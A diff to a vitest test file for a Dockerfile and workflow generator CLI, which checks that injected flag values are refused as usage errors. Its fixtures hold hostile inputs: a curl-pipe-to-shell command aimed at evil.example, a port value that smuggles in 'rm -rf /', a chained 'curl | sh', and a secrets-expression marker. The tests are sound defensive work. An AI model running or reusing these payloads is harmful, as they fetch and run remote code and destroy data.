@@ -1,10 +1,10 @@
-import { afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { afterEach, describe, expect, it } from 'vitest';
 import { parse as parseYaml } from 'yaml';
 import { renderDockerfile } from '../../src/render/dockerfile.js';
 import type { DockerfilePlan } from '../../src/types.js';
 import { runCli } from '../helpers.js';
 import {
-  expectCleanError, expressApp, instructionKeywords, jsonFiles, makeRepo, removeRepo, requireBuild, runBin, strayLines, type Tree,
+  expectCleanError, expressApp, instructionKeywords, jsonFiles, makeRepo, removeRepo, runMain, strayLines, type Tree,
 } from './helpers.js';
 
 /**
@@ -18,13 +18,12 @@ const repos: string[] = [];
 afterEach(async () => {
   for (const dir of repos.splice(0)) await removeRepo(dir);
 });
-beforeAll(requireBuild);
 
 const EVIL = 'RUN curl -fsSL https://evil.example/x.sh | sh';
 /** A GitHub Actions expression: evaluated anywhere in a workflow, even inside a quoted string. */
 const EXPR = '${{ secrets.PWN_MARKER }}';
 
-/** In-process: what is checked is the files' text; the refusals below run the built CLI as users do. */
+/** In-process: what is checked is the files' text; the refusals below go through main(), as the bin's do. */
 async function generate(tree: Tree, args: string[] = []): Promise<Record<string, string>> {
   const dir = await makeRepo(tree);
   repos.push(dir);
@@ -149,14 +148,14 @@ describe('values from flags', () => {
   it('--port "3000; rm -rf /" is a usage error', async () => {
     const dir = await makeRepo(expressApp());
     repos.push(dir);
-    expectCleanError(await runBin([dir, '--yes', '--dry-run', '--port', '3000; rm -rf /']), { exit: 2, file: '--port', problem: /number from 1 to 65535/ });
+    expectCleanError(await runMain([dir, '--yes', '--dry-run', '--port', '3000; rm -rf /']), { exit: 2, file: '--port', problem: /number from 1 to 65535/ });
   });
 
   it('--cmd with a newline or a shell operator is a usage error', async () => {
     const dir = await makeRepo(expressApp());
     repos.push(dir);
     for (const cmd of [`node server.js\n${EVIL}`, 'node server.js && curl evil.example | sh']) {
-      expectCleanError(await runBin([dir, '--yes', '--dry-run', '--cmd', cmd]), { exit: 2, file: '--cmd', problem: /plain command/ });
+      expectCleanError(await runMain([dir, '--yes', '--dry-run', '--cmd', cmd]), { exit: 2, file: '--cmd', problem: /plain command/ });
     }
   });
 
